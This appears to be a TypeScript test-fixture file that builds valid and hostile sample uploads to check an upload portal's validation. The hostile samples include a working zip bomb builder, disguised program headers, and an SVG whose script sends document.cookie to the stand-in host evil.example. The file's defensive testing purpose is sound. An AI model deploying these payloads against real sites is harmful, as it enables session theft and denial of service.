/**
 * Files for the upload tests, made here byte by byte: the kinds people send
 * (PDF, photos, Word, OpenDocument, plain text) and the kinds that must be
 * refused (empty, too big, a program or a web page behind a document's name,
 * an SVG with a script, a zip bomb dressed as a Word document).
 */
import { constants, crc32, deflateRawSync } from 'node:zlib';

export type SampleFile = {
  label: string;
  fileName: string;
  content: Uint8Array;
  /** `accept`, or the message key the refusal carries for the `file` field. */
  expect: 'accept' | 'portal.errors.file.empty' | 'portal.errors.file.tooBig' | 'portal.errors.file.type';
};

type ZipEntry = {
  name: string;
  data: Buffer;
  compress?: boolean;
  declaredSize?: number;
  deflated?: { bytes: Buffer; size: number; crc: number };
};

/**
 * `megabytes` MB of zeros, deflated in a few milliseconds: one megabyte
 * compressed with a sync flush (a stream segment that does not end the
 * stream), repeated, then an empty final block. The decoder sees one stream.
 */
export function deflatedZeros(megabytes: number): { bytes: Buffer; size: number; crc: number } {
  const chunk = Buffer.alloc(1024 * 1024);
  const segment = deflateRawSync(chunk, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  let crc = 0;
  for (let i = 0; i < megabytes; i += 1) crc = crc32(chunk, crc);
  const bytes = Buffer.concat([...Array.from({ length: megabytes }, () => segment), deflateRawSync(Buffer.alloc(0))]);
  return { bytes, size: megabytes * chunk.length, crc };
}

/** A zip archive (stored or deflated entries, with a central directory), as Word and LibreOffice write them. */
export function makeZip(entries: ZipEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const compressed = entry.deflated ? entry.deflated.bytes : entry.compress ? deflateRawSync(entry.data, { level: 9 }) : entry.data;
    const method = entry.compress || entry.deflated ? 8 : 0;
    const crc = entry.deflated ? entry.deflated.crc : crc32(entry.data);
    const size = entry.declaredSize ?? entry.deflated?.size ?? entry.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, compressed);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + compressed.length;
  }
  const centralSize = centrals.reduce((n, b) => n + b.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, ...centrals, end]));
}

const docxParts = (documentXml: Buffer, extra: ZipEntry[] = []): ZipEntry[] => [
  {
    name: '[Content_Types].xml',
    data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    compress: true,
  },
  { name: 'word/document.xml', data: documentXml, compress: true },
  ...extra,
];

let cache: SampleFile[] | undefined;

export function sampleFiles(): SampleFile[] {
  if (cache) return cache;
  const pdf = Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
  const png = Buffer.from(
    '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
      '1f15c4890000000d49444154789c6360000002000154a24f5f0000000049454e44ae426082',
    'hex',
  );
  const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
  const docx = makeZip(
    docxParts(
      Buffer.from(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Letter</w:t></w:r></w:p></w:body></w:document>',
      ),
    ),
  );
  const odt = makeZip([
    { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text') },
    { name: 'content.xml', data: Buffer.from('<office:document-content/>'), compress: true },
  ]);
  // 200 MB of zeros in about 200 KB: a document that would swamp whatever opens it.
  const bomb = makeZip(
    docxParts(Buffer.from('<w:document/>'), [{ name: 'word/media/bomb.bin', data: Buffer.alloc(0), deflated: deflatedZeros(200) }]),
  );
  // A small archive whose entry claims a small size but inflates far beyond it.
  const liar = makeZip(
    docxParts(Buffer.from('<w:document/>'), [
      { name: 'word/media/liar.bin', data: Buffer.alloc(0), deflated: deflatedZeros(64), declaredSize: 1024 },
    ]),
  );
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(64)]);
  const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('This program cannot be run in DOS mode.')]);
  const svg = Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script><circle r="4"/></svg>',
  );
  const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
  const polyglot = Buffer.from('%PDF-1.4 <script>alert(1)</script>'); // starts like a PDF: accepted as one and only ever served as a download
  cache = [
    { label: 'a PDF', fileName: 'letter.pdf', content: new Uint8Array(pdf), expect: 'accept' },
    { label: 'a PNG photo', fileName: 'photo.png', content: new Uint8Array(png), expect: 'accept' },
    { label: 'a JPEG photo', fileName: 'photo.jpg', content: new Uint8Array(jpeg), expect: 'accept' },
    { label: 'a Word document', fileName: 'letter.docx', content: docx, expect: 'accept' },
    { label: 'an OpenDocument text', fileName: 'letter.odt', content: odt, expect: 'accept' },
    {
      label: 'plain text',
      fileName: 'notes.txt',
      content: new Uint8Array(Buffer.from('What happened, in my words.\nLine two, with Welsh: ŵŷ.')),
      expect: 'accept',
    },
    { label: 'a PDF-looking polyglot', fileName: 'x.pdf', content: new Uint8Array(polyglot), expect: 'accept' },
    { label: 'an empty file', fileName: 'empty.pdf', content: new Uint8Array(0), expect: 'portal.errors.file.empty' },
    {
      label: 'a file over 10 MB',
      fileName: 'big.pdf',
      content: new Uint8Array(Buffer.concat([pdf, Buffer.alloc(10 * 1024 * 1024)])),
      expect: 'portal.errors.file.tooBig',
    },
    { label: 'a Linux program named .pdf', fileName: 'letter.pdf', content: new Uint8Array(elf), expect: 'portal.errors.file.type' },
    { label: 'a Windows program named .docx', fileName: 'letter.docx', content: new Uint8Array(exe), expect: 'portal.errors.file.type' },
    { label: 'an SVG with a script named .txt', fileName: 'notes.txt', content: new Uint8Array(svg), expect: 'portal.errors.file.type' },
    { label: 'an SVG with a script', fileName: 'drawing.svg', content: new Uint8Array(svg), expect: 'portal.errors.file.type' },
    { label: 'a web page named .txt', fileName: 'notes.txt', content: new Uint8Array(html), expect: 'portal.errors.file.type' },
    { label: 'a zip bomb named .docx', fileName: 'letter.docx', content: bomb, expect: 'portal.errors.file.type' },
    { label: 'a zip whose entry lies about its size', fileName: 'letter.docx', content: liar, expect: 'portal.errors.file.type' },
    {
      label: 'a plain zip named .docx',
      fileName: 'letter.docx',
      content: makeZip([{ name: 'readme.txt', data: Buffer.from('hi') }]),
      expect: 'portal.errors.file.type',
    },
    {
      label: 'a truncated Word document',
      fileName: 'letter.docx',
      content: docx.slice(0, Math.floor(docx.length / 2)),
      expect: 'portal.errors.file.type',
    },
  ];
  return cache;
}
